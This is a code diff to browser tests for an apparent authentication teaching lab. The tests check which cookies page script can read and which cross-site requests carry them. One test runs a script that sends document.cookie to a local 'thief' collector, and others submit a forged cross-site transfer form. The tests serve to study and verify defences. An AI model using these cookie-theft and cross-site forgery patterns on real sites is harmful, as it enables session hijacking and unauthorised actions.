@@ -11,7 +11,6 @@ from __future__ import annotations
 from urllib.parse import parse_qs, urlsplit
 
 import pytest
-from playwright.sync_api import expect
 
 import authlab
 from authlab.apps import DEMO_USERS, Users
@@ -24,6 +23,7 @@ from authlab.browser_demo import (
     other_site_url,
 )
 
+expect = pytest.importorskip("playwright.sync_api").expect
 pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
 
 
@@ -37,12 +37,17 @@ def site(users):
     return authlab.serve(cookie_rules_app(users), name="browser-test-site", show=False)
 
 
-def _sign_in(page, url: str) -> None:
-    page.goto(url)
+def _sign_in(page) -> None:
+    """Fill in and send the sign-in form of the page the browser shows."""
     page.fill("input[name=username]", "alice")
     page.fill("input[name=password]", DEMO_USERS["alice"])
     page.click("button[type=submit]")
     expect(page.locator("#user")).to_have_text("alice")
+
+
+def _last(server: authlab.Server, method: str, path: str):
+    """The last request for ``method path`` in the server's log (the browser also asks for /favicon.ico)."""
+    return [exchange for exchange in server.log if (exchange.method, exchange.path) == (method, path)][-1]
 
 
 def _names(document_cookie: str) -> set[str]:
@@ -51,11 +56,10 @@ def _names(document_cookie: str) -> set[str]:
 
 def test_httponly_cookies_are_sent_but_page_script_cannot_read_them(page, jupyter_server, site):
     proxied = f"{jupyter_server.url}/proxy/{site.port}/"
-    page.goto(f"{proxied}?token={jupyter_server.token}")  # signs this browser in to Jupyter (a cookie)
-    _sign_in(page, proxied)
+    page.goto(f"{proxied}?token={jupyter_server.token}")  # the token signs this browser in to Jupyter too
+    _sign_in(page)
 
-    after_sign_in = site.log[-1]  # the GET the sign-in redirected to, through the proxy
-    assert (after_sign_in.method, after_sign_in.path) == ("GET", "/")
+    after_sign_in = _last(site, "GET", "/")  # the page the sign-in redirected to, through the proxy
     assert set(cookies_received(after_sign_in)) >= {*SESSION_COOKIES, CSRF_COOKIE}
 
     jar = {cookie["name"]: cookie for cookie in page.context.cookies()}
@@ -70,29 +74,32 @@ def test_httponly_cookies_are_sent_but_page_script_cannot_read_them(page, jupyte
     with authlab.serve(cross_site_form_app("about:blank"), name="browser-test-collector", show=False) as thief:
         page.evaluate("url => fetch(url + '/collect?c=' + encodeURIComponent(document.cookie), {mode: 'no-cors'})",
                       other_site_url(thief.url))
-        stolen = _names(parse_qs(urlsplit(thief.log[-1].path).query)["c"][0])
+        collected = [exchange.path for exchange in thief.log if exchange.path.startswith("/collect?")]
+    stolen = _names(parse_qs(urlsplit(collected[-1]).query)["c"][0])
     assert CSRF_COOKIE in stolen and not stolen & set(SESSION_COOKIES)
 
 
 def test_the_sites_own_form_sends_every_cookie_and_the_token(page, site):
-    _sign_in(page, site.url + "/")
+    page.goto(site.url + "/")
+    _sign_in(page)
     page.click("form[action=transfer] button")
     expect(page.locator("h1")).to_have_text("Done")
-    post = site.log[-1]
-    assert (post.method, post.path, post.status) == ("POST", "/transfer", 200)
+    post = _last(site, "POST", "/transfer")
+    assert post.status == 200
     assert set(cookies_received(post)) == {*SESSION_COOKIES, CSRF_COOKIE}
     assert post.request_headers["Sec-Fetch-Site"] == "same-origin"
     assert site.app.extensions["authlab.transfers"] == [("alice", "bob", "10")]
 
 
 def test_cross_site_form_post_carries_only_the_samesite_none_cookie_and_is_refused(page, site):
-    _sign_in(page, site.url + "/")
+    page.goto(site.url + "/")
+    _sign_in(page)
     with authlab.serve(cross_site_form_app(site.url + "/transfer"), name="browser-test-other", show=False) as other:
         other_page = other_site_url(other.url) + "/"
         page.goto(other_page)  # its form submits itself to our /transfer
         expect(page.locator("h1")).to_have_text("Refused")
-    post = site.log[-1]
-    assert (post.method, post.path, post.status) == ("POST", "/transfer", 403)
+    post = _last(site, "POST", "/transfer")
+    assert post.status == 403
     assert post.request_headers["Sec-Fetch-Site"] == "cross-site"  # localhost is another site than 127.0.0.1
     assert post.request_headers["Origin"] == other_page.rstrip("/")
     assert set(cookies_received(post)) == {"session_none"}  # Strict, Lax and the token stay home
@@ -100,13 +107,14 @@ def test_cross_site_form_post_carries_only_the_samesite_none_cookie_and_is_refus
 
 
 def test_following_a_link_from_another_site_sends_lax_but_not_strict(page, site):
-    _sign_in(page, site.url + "/")
+    page.goto(site.url + "/")
+    _sign_in(page)
     with authlab.serve(cross_site_form_app(site.url + "/transfer", auto_submit=False), name="browser-test-other",
                        show=False) as other:
         page.goto(other_site_url(other.url) + "/")
         with page.expect_navigation():
             page.evaluate("url => { window.location.href = url }", site.url + "/")  # a top-level GET from there
-    arrival = site.log[-1]
-    assert (arrival.method, arrival.path, arrival.request_headers["Sec-Fetch-Site"]) == ("GET", "/", "cross-site")
+    arrival = _last(site, "GET", "/")
+    assert arrival.request_headers["Sec-Fetch-Site"] == "cross-site"
     assert set(cookies_received(arrival)) == {"session_lax", "session_none"}
     expect(page.locator("#user")).to_have_text("alice")  # Lax keeps a user signed in who arrives by a link
